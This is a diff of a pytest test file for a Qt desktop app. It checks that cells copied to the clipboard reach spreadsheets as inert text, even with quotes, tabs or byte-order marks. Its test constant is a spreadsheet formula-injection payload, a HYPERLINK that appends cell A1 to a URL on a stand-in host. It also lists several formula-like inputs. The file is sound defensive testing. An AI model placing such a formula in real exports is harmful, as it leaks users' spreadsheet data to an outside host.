@@ -2,22 +2,27 @@
 
 from __future__ import annotations
 
+import csv
+from io import StringIO
+
 import pytest
 from PySide6.QtCore import QItemSelectionModel, QStringListModel, Qt
 from PySide6.QtWidgets import QApplication, QComboBox, QListView, QListWidget, QTableView
 from pytestqt.qtbot import QtBot
 
-from app.text import harmless
+from app.text import UNSEEN, harmless
 from tests.ui.conftest import WAIT
 from tests.ui.sheets import HEADERS, rows
 from ui.kit.copying import copies, copy_cells
 from ui.program.program import Program
+from ui.sheet.chosen import block_of
 
 EVIL = '=HYPERLINK("http://host.example/?"&A1,"x")'
 
 
 def pasted() -> list[list[str]]:
-    return [row.split("\t") for row in QApplication.clipboard().text().split("\n")]
+    """As a spreadsheet takes it."""
+    return list(csv.reader(StringIO(QApplication.clipboard().text()), delimiter="\t"))
 
 
 @pytest.mark.parametrize(
@@ -53,6 +58,19 @@ def test_rows_stay_rows(qapp: QApplication) -> None:
     assert pasted() == [["a b", "'" + EVIL], ["c d", "0812345678"]]
 
 
+AWKWARD = ['"=1+1', '"', '""', 'a "b" c', '"x\ty', "\ufeff=1", "\ufeffนาง", "=1", "0812345678", "", "'ก", "''=1"]
+
+
+@pytest.mark.parametrize("first", AWKWARD)
+def test_rows_come_back_as_they_were(qapp: QApplication, first: str) -> None:
+    """Also those with quotes, or with a mark of byte order at their begin."""
+    cells = [[first, "1"], ["2", first], *([one, "x"] for one in AWKWARD)]
+    copy_cells(cells)
+    text = QApplication.clipboard().text()
+    assert block_of(text) == [[one.replace("\t", " ") for one in row] for row in cells]
+    assert not any(cell.lstrip(UNSEEN).startswith("=") for row in pasted() for cell in row), "nothing runs"
+
+
 def test_the_clipboard_tells_excel_that_all_is_text(qapp: QApplication) -> None:
     copy_cells([[EVIL, "0812345678", "<b>&"]])
     html = QApplication.clipboard().mimeData().html()
@@ -83,7 +101,7 @@ def test_every_list_copies_so(qapp: QApplication, qtbot: QtBot, view: type) -> N
     shown.setModel(model)
     shown.selectionModel().setCurrentIndex(model.index(0), QItemSelectionModel.SelectionFlag.SelectCurrent)
     qtbot.keyClick(shown, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
-    assert QApplication.clipboard().text() == "'" + EVIL
+    assert pasted() == [["'" + EVIL]]
 
 
 def test_no_list_of_the_window_copies_otherwise(sample: Program, qtbot: QtBot) -> None:
